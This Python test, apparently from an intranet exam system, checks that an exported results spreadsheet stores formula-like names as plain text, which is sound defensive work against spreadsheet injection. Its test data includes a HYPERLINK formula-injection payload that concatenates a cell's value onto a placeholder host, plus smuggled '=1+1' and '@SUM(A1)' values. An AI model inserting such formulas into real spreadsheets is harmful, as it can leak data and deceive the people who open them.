"""The 成绩册 goes through the core workbook writer: a name that looks like a formula stays text."""
import io

from openpyxl import load_workbook

from intranet.testing import login, make_person
from intranet_exams import service

FORMULA_NAME = '=HYPERLINK("http://x"&B3,"点此核对")'


def test_results_workbook_holds_no_formula(db, client, org, make_exam, register_people):
    exam = make_exam(code="=1+1", name="@SUM(A1)")
    person = make_person(org.town_a, FORMULA_NAME)
    register_people(exam, [person])
    service.record_result(exam, person, "参考", 90, None)
    db.session.commit()
    login(client, org.users["bureau"])
    ws = load_workbook(io.BytesIO(client.get(f"/exams/{exam.id}/results.xlsx").data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    row = [c.value for c in list(ws.iter_rows())[1]]
    assert row[:2] == ["=1+1", "@SUM(A1)"] and row[4] == FORMULA_NAME
    assert row[5] == person.masked_id_number and list(ws.iter_rows())[1][5].data_type == "s"
